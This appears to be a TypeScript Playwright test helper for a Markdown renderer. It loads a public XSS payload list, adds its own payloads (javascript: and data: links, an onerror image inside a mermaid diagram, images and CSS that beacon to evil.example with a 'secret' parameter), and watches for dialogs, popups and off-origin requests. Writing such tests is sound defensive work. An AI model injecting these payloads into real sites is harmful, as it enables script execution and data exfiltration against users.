import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Page, Request } from '@playwright/test';

/** Payloads of a public list, and the ones our own renderer invites: links, images, maths, diagrams. */
export const payloads: readonly string[] = [
  ...readFileSync(path.join(import.meta.dirname, '../fixtures/xss-payloads.txt'), 'utf8')
    .split('\n')
    .filter((line) => line.trim() !== ''),
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt&colon;alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![pixel](https://evil.example/pixel.png?secret=1)',
  '![pixel][ref]\n\n[ref]: https://evil.example/ref.png',
  '<img src="https://evil.example/img.png">',
  '<style>body{background:url(https://evil.example/bg.png)}</style>',
  '$\\href{javascript:alert(1)}{x}$ and $\\includegraphics{https://evil.example/k.png}$',
  '```mermaid\nflowchart LR\nA["<img src=x onerror=alert(1)>"] --> B\nclick A href "javascript:alert(1)"\n```',
  '<https://evil.example/auto> <javascript:alert(1)>',
];

export interface Watch {
  /** What ran, opened or was asked for although nobody clicked. */
  findings(): Promise<string[]>;
}

/** Notices script that runs, dialogs, new windows and every request that leaves the server's own origin. */
export async function watchForAttacks(page: Page, origin: string): Promise<Watch> {
  const seen: string[] = [];
  await page.addInitScript(() => {
    const ran: string[] = [];
    Object.defineProperty(window, '__ran', { value: ran });
    for (const name of ['alert', 'confirm', 'prompt', 'open'] as const) {
      Object.defineProperty(window, name, { value: () => void ran.push(name) });
    }
  });
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => seen.push(`popup: ${popup.url()}`));
  page.on('request', (request: Request) => {
    const { protocol, origin: asked } = new URL(request.url());
    if (asked !== origin && !['data:', 'blob:', 'ws:'].includes(protocol)) seen.push(`request: ${request.url()}`);
  });
  return {
    findings: async () => [...seen, ...(await page.evaluate(() => (window as unknown as { __ran: string[] }).__ran))],
  };
}
